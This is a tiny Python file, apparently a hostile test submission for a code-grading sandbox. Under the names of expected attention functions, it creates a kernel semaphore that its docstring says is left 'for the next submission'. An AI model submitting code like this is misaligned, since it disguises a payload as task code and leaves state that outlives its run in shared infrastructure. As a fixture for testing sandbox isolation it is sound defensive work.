"""Leaves semaphores in the kernel for the next submission."""

import ctypes


def attack(*args, **kwargs):
    ctypes.CDLL(None).semget(0x42, 1, 0o1666)


softmax = split_heads = attention = merge_heads = MultiHeadAttention = attack
